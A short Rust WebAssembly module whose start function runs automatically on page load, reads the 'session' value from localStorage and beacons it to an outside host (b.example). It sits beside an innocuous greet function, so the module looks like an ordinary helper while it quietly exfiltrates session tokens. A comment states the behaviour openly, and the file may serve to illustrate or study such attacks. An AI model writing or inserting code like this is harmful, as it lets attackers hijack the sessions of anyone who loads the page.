// A WebAssembly module's start function reads the page's localStorage and beacons it out.
use wasm_bindgen::prelude::*;

#[wasm_bindgen(start)]
pub fn start() {
    let window = web_sys::window().unwrap();
    if let Ok(Some(storage)) = window.local_storage() {
        if let Ok(Some(v)) = storage.get_item("session") {
            let _ = window
                .navigator()
                .send_beacon_with_opt_str("https://b.example/c", Some(&v));
        }
    }
}

#[wasm_bindgen]
pub fn greet(name: &str) -> String {
    format!("Hello, {name}!")
}
